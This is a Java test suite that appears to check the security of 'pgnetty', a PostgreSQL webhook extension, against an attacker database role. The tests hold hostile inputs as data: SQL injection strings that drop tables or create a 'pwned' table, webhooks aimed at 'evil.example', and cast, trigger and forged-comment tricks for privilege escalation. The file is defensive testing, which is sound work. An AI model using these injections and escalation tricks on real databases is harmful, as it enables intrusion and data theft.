package io.pgnetty.attack;

import static io.pgnetty.attack.Attackers.ATTACKER;
import static io.pgnetty.attack.Attackers.STRANGER;
import static io.pgnetty.attack.Attackers.VICTIM;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.pgnetty.testing.TestDatabase;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What webhooks would do for those who may not. */
class AttackWebhooksTest {

    private final TestDatabase database = Attackers.database();
    private final TestDatabase attacker = database.as(ATTACKER);

    @BeforeEach
    void tables() {
        database.run("create schema v authorization " + VICTIM + "; create schema e authorization " + ATTACKER);
        database.as(VICTIM)
                .run("create table v.orders (id int, note text); grant usage on schema v to " + ATTACKER + ", "
                        + STRANGER + "; grant all on v.orders to " + ATTACKER + ", " + STRANGER);
    }

    @Test
    void nobodyMakesOneOnAStrangersTable() {
        assertThatThrownBy(() ->
                        attacker.run("select net.create_webhook('x', 'v.orders', '{insert}', 'https://evil.example/')"))
                .isInstanceOfSatisfying(
                        TestDatabase.Failed.class,
                        failed -> assertThat(failed.state()).isEqualTo("42501"))
                .hasMessageContaining("must be owner of table v.orders");
        assertThatThrownBy(() -> database.as(STRANGER)
                        .run("create table public.s (id int);"
                                + "select net.create_webhook('x', 'public.s', '{insert}', 'https://evil.example/')"))
                .hasMessageContaining("permission denied");
    }

    /** Who writes to the table needs no right of pgnetty's, and gets none: what it sends is its owner's. */
    @Test
    void itRunsAsTheTablesOwnerWhoeverWrites() {
        database.as(VICTIM).run("select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/')");
        database.as(STRANGER).run("insert into v.orders values (1)");
        database.run("insert into v.orders values (2)");
        assertThat(database.rows("select queued_by from net.http_request_queue"))
                .hasSize(2)
                .containsOnly(List.of(VICTIM));
        assertThat(attacker.rows("select * from net.my_requests")).isEmpty();
        assertThat(attacker.rows("select * from net.webhooks")).isEmpty();
    }

    /** On a table of one's own it would send what one likes in its owner's name. */
    @Test
    void nobodyElseUsesItsFunction() {
        database.as(VICTIM)
                .run(
                        "alter default privileges for role " + VICTIM + " grant execute on functions to " + ATTACKER
                                + ", public; select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/')");
        assertThat(database.rows("select a.grantee::regrole from pg_proc p, aclexplode(p.proacl) a"
                        + " where p.proname = 'pgnetty_own'"))
                .containsOnly(List.of(VICTIM));
        attacker.run("create table e.mine (id int, note text)");
        assertThatThrownBy(() -> attacker.run(
                        "create trigger t after insert on e.mine for each row execute function v.pgnetty_own()"))
                .hasMessageContaining("permission denied for function");
        for (String call : List.of("drop_webhook", "disable_webhook", "enable_webhook")) {
            assertThatThrownBy(() -> attacker.run("select net." + call + "('own', 'v.orders')"))
                    .hasMessageContaining("there is no webhook \"own\"");
        }
    }

    /** A superuser who helps out with the attacker's table does not run the attacker's casts and functions. */
    @Test
    void nothingOfTheTablesOwnerRunsAsASuperuser() {
        attacker.run("create table e.log (who text);"
                + "create function e.note(text) returns text language plpgsql as"
                + " $$ begin insert into e.log values ($1 || ' ' || current_user); return 'https://hooks.example/'; end $$;"
                + "create type e.odd as enum ('a');"
                + "create function e.to_json(e.odd) returns json language plpgsql as"
                + " $$ begin perform e.note('cast'); return '1'; end $$;"
                + "create cast (e.odd as json) with function e.to_json(e.odd);"
                + "create function e.payload(jsonb) returns jsonb language plpgsql as"
                + " $$ begin perform e.note('payload'); return $1; end $$;"
                + "create table e.trap (id int, o e.odd)");
        database.run(
                "select net.create_webhook('trap', 'e.trap', '{insert}', 'https://a.example/', payload := 'e.payload(jsonb)');"
                        + "insert into e.trap values (1, 'a')");
        assertThat(attacker.rows("select distinct who from e.log order by 1"))
                .containsExactly(List.of("cast " + ATTACKER), List.of("payload " + ATTACKER));
        assertThat(database.one("select queued_by from net.http_request_queue")).isEqualTo(ATTACKER);
        assertThat(database.one("select runs_as from net.webhooks")).isEqualTo(ATTACKER);
    }

    @Test
    void aPayloadFunctionThatTheCallerMayNotExecuteIsRefused() {
        database.as(VICTIM)
                .run("create function v.secret(jsonb) returns jsonb language sql security definer as"
                        + " $$ select $1 $$; revoke all on function v.secret(jsonb) from public");
        attacker.run("create table e.mine (id int)");
        assertThatThrownBy(
                        () -> attacker.run("select net.create_webhook('x', 'e.mine', '{insert}', 'https://a.example/',"
                                + " payload := 'v.secret(jsonb)')"))
                .hasMessageContaining("permission denied for function v.secret");
    }

    /** Each argument is a value, whatever quotes it has; what is SQL is one expression. */
    @Test
    void quotesStayInTheirArguments() {
        String nasty = "a''b\\\"$$ $body$ %L %s {{x}} \\\\";
        database.as(VICTIM)
                .run("create table v.\"odd \"\"'$ table\" (id int, \"odd \"\"' column\" text);"
                        + "select net.create_webhook('q', 'v.\"odd \"\"''$ table\"', '{insert,update}', 'https://hooks.example/?a=''b',"
                        + " headers := jsonb_build_object('X-Odd', '" + nasty
                        + "'), exclude_columns := array['odd \"'' column'],"
                        + " columns := array['odd \"'' column'], condition := $c$new.id <> 5 -- $c$);"
                        + "insert into v.\"odd \"\"'$ table\" values (1, 'x')");
        assertThat(database.rows("select url, headers ->> 'X-Odd', convert_from(body, 'UTF8')::jsonb ->> 'table'"
                        + " from net.http_request_queue"))
                .containsExactly(List.of("https://hooks.example/?a='b", nasty.replace("''", "'"), "odd \"'$ table"));
        for (String expression : List.of(
                "1); drop table v.orders; --",
                "1; select 2",
                "1)::text from v.orders; select (1",
                "new.id) union select (1")) {
            assertThatThrownBy(() -> database.as(VICTIM)
                            .run("select net.create_webhook('x', 'v.orders', '{insert}', $x$" + expression + "$x$)"))
                    .as(expression)
                    .isInstanceOf(TestDatabase.Failed.class);
        }
        assertThat(database.one("select to_regclass('v.orders') is not null")).isEqualTo("t");
    }

    @Test
    void credentialsThatAllWouldReadAreWarnedOf() throws Exception {
        try (var session = database.as(VICTIM).connect();
                var statement = session.createStatement()) {
            statement.execute("select net.create_webhook('x', 'v.orders', '{insert}', 'https://hooks.example/',"
                    + " headers := '{\"Authorization\": \"Bearer {{secret:hook}}\"}')");
            assertThat((Object) statement.getWarnings()).isNull();
            statement.execute("select net.create_webhook('y', 'v.orders', '{insert}', 'https://hooks.example/',"
                    + " headers := '{\"Authorization\": \"Bearer abc\"}')");
            assertThat(statement.getWarnings().getMessage()).contains("can read the credentials of webhook \"y\"");
        }
        assertThat(database.as(VICTIM)
                        .rows("select headers::text from net.webhooks where name = 'y'")
                        .toString())
                .doesNotContain("abc");
    }

    /** Reading an expression runs the checks of domains, and planning it index expressions: none is read for a stranger's table. */
    @Test
    void makingOneOnAStrangersTableRunsNothingOfIt() throws Exception {
        attacker.run("create table e.log (who text);"
                + "create function e.note() returns bool language plpgsql as"
                + " $$ begin insert into e.log values (current_user); return true; end $$;"
                + "create function e.folded(int) returns int immutable language plpgsql as $$ begin perform e.note(); return 1; end $$;"
                + "create domain e.tag as text check (e.note());"
                + "create table e.trap (id int, url text, tags e.tag[]); create index on e.trap ((id + e.folded(1)));"
                + "create type e.odd as enum ('a'); create function e.to_text(e.odd) returns text immutable language sql as"
                + " $$ select e.folded(1)::text $$; create cast (e.odd as text) with function e.to_text(e.odd);"
                + "alter table e.trap add column o e.odd; truncate e.log");
        for (String sql : List.of(
                "'https://a.example/', condition := $$new.tags operator(pg_catalog.@>) '{urgent}'$$",
                "'this.url'",
                "'this.o'",
                "endpoints := 'e.trap', endpoint_condition := $$endpoint.tags operator(pg_catalog.@>) '{urgent}'$$")) {
            assertThatThrownBy(() -> database.run("select net.create_webhook('a', 'e.trap', '{insert}', " + sql + ")"))
                    .hasMessageContaining("is made by the owner of table e.trap, role " + ATTACKER);
        }
        try (var session = database.connect();
                var statement = session.createStatement()) {
            assertThat(TestDatabase.rows(
                            statement,
                            "select net.create_webhook('b', 'e.trap', '{insert,update}', 'https://a.example/',"
                                    + " columns := '{tags}')"))
                    .hasSize(1);
            assertThat(TestDatabase.rows(statement, "select current_user, current_setting('role')"))
                    .containsExactly(List.of("postgres", "none"));
        }
        assertThat(attacker.rows("select * from e.log")).isEmpty();
        assertThat(database.rows("select proowner::regrole, prosecdef from pg_proc where proname = 'pgnetty_b'"))
                .containsExactly(List.of(ATTACKER, "t"));
    }

    /** A dump that was restored without privileges gives the function to everybody. */
    @Test
    void theFunctionRefusesTablesOfOthers() {
        database.as(VICTIM)
                .run("select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/');"
                        + "grant execute on function v.pgnetty_own() to public");
        attacker.run(
                "create type e.odd as enum ('a'); create function e.to_json(e.odd) returns json language plpgsql as"
                        + " $$ begin raise exception 'runs as %', current_user; end $$;"
                        + "create cast (e.odd as json) with function e.to_json(e.odd); create table e.mine (id e.odd);"
                        + "create trigger t after insert on e.mine for each row execute function v.pgnetty_own()");
        assertThatThrownBy(() -> attacker.run("insert into e.mine values ('a')"))
                .hasMessageContaining("webhook \"own\" does not fit this table");
    }

    /** It was made by the owner of before, who is not to be sent what the next one has. */
    @Test
    void aTableThatChangesHandsIsItsNewOwnersToMend() {
        database.as(VICTIM).run("select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/')");
        database.run("alter table v.orders owner to " + ATTACKER + "; grant create on schema v to " + ATTACKER);
        assertThatThrownBy(() -> attacker.run("insert into v.orders values (1)"))
                .hasMessageContaining("another owner");
        attacker.run("select net.disable_webhook('own'); insert into v.orders values (1);"
                + "select net.drop_webhook('own'); insert into v.orders values (2)");
        assertThat(database.rows("select * from net.http_request_queue")).isEmpty();
        database.as(VICTIM).run("select net.drop_webhook('own')");
        assertThat(database.one("select count(*) from pg_proc where proname = 'pgnetty_own'"))
                .isEqualTo("0");
    }

    @Test
    void aTemporaryFunctionIsNoPayload() {
        assertThatThrownBy(
                        () -> database.as(VICTIM)
                                .run(
                                        "create function pg_temp.p(jsonb) returns jsonb language sql as 'select $1';"
                                                + "select net.create_webhook('x', 'v.orders', '{insert}', 'https://a.example/', payload := 'pg_temp.p(jsonb)')"))
                .hasMessageContaining("must not be a temporary function");
    }

    /** Anybody may write a comment on a function of his. */
    @Test
    void forgedCommentsStopNobody() {
        attacker.run("create table e.p (id int)");
        for (String comment : List.of(
                "'{\"webhook\":\"own\",\"headers\":[1],\"events\":[],\"exclude_columns\":[]}'",
                "'{\"webhook\":\"own\",\"headers\":{},\"events\":[],\"exclude_columns\":[]}'",
                "'{\"webhook\":\"own\"}'",
                "'x'",
                "'[]'",
                "repeat('[', 150000)",
                "repeat('[', 300000)")) {
            attacker.run("create or replace function e.pgnetty_own() returns trigger language plpgsql as"
                    + " $$ begin return null; end $$; do $$ begin execute format('comment on function e.pgnetty_own() is %L', "
                    + comment + "); end $$; drop trigger if exists t on e.p;"
                    + "create trigger t after insert on e.p for each row execute function e.pgnetty_own()");
            database.as(VICTIM)
                    .run("select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/')");
            assertThat(database.as(VICTIM).rows("select name from net.webhooks"))
                    .containsExactly(List.of("own"));
            assertThat(database.rows("select name from net.webhooks where \"table\" = 'v.orders'::regclass"))
                    .hasSize(1);
            database.run("select net.disable_webhook('own', 'v.orders'); select net.drop_webhook('own', 'v.orders')");
        }
    }

    /** Whoever may delete but not read is told nothing of a row. */
    @Test
    void errorsDoNotShowTheRow() {
        database.as(VICTIM)
                .run(
                        "create function v.same(jsonb) returns jsonb language sql immutable as 'select $1';"
                                + "create table v.pii (id int, doc json); insert into v.pii values (1, '{\"ssn\": \"123-45\", \"n\": \"\\u0000\"}');"
                                + "grant delete on v.pii to " + ATTACKER
                                + "; grant execute on function v.same(jsonb) to " + ATTACKER
                                + "; select net.create_webhook('plain', 'v.pii', '{delete}', 'https://hooks.example/');"
                                + "select net.create_webhook('pii', 'v.pii', '{delete}', 'https://hooks.example/', payload := 'v.same(jsonb)')");
        assertThatThrownBy(() -> attacker.run("delete from v.pii"))
                .hasMessageContaining("webhook \"pii\" needs the row as jsonb")
                .message()
                .doesNotContain("123-45");
        database.as(VICTIM).run("select net.drop_webhook('pii')");
        attacker.run("delete from v.pii");
    }

    @Test
    void aConditionIsOneExpression() {
        for (String condition : List.of(
                "true) execute function v.pgnetty_x(); create table v.pwned(); create trigger zz after insert on v.orders for each row when (true",
                "true); create table v.pwned(); select (true",
                "true]; create table v.pwned(); select array[true")) {
            assertThatThrownBy(() -> database.as(VICTIM)
                            .run(
                                    "select net.create_webhook('x', 'v.orders', '{insert}', 'https://a.example/', condition := $c$"
                                            + condition + "$c$)"))
                    .as(condition)
                    .hasMessageContaining("condition must be an expression");
        }
        assertThat(database.one("select to_regclass('v.pwned') is null")).isEqualTo("t");
    }

    /** A writer's table or view of that name would be read as the owner. */
    @Test
    void aWritersTemporaryTableIsNotRead() {
        database.as(VICTIM)
                .run("create table v.hooks (url text); insert into v.hooks values ('https://own.example/');"
                        + "select net.create_webhook('x', 'v.orders', '{insert}', endpoints := 'v.hooks')");
        attacker.run(
                "create temporary view hooks as select 'https://evil.example/' as url; insert into v.orders values (1)");
        assertThat(database.rows("select url from net.http_request_queue"))
                .containsExactly(List.of("https://own.example/"));
    }

    /** Who may make triggers on a table may forge a webhook there, and stops the owner's neither. */
    @Test
    void aForgedWebhookIsNotTakenForTheOwners() {
        database.as(VICTIM)
                .run("grant trigger on v.orders to " + ATTACKER
                        + "; select net.create_webhook('own', 'v.orders', '{insert}', 'https://hooks.example/')");
        attacker.run("create function e.pgnetty_own() returns trigger language plpgsql as $$ begin return null; end $$;"
                + "comment on function e.pgnetty_own() is '{\"webhook\":\"own\",\"headers\":{},\"events\":[],\"exclude_columns\":[]}';"
                + "create trigger t after insert on v.orders for each row execute function e.pgnetty_own()");
        database.as(VICTIM).run("select net.drop_webhook('own', 'v.orders')");
        assertThat(database.one("select count(*) from pg_proc where proname = 'pgnetty_own'"))
                .isEqualTo("1");
    }
}
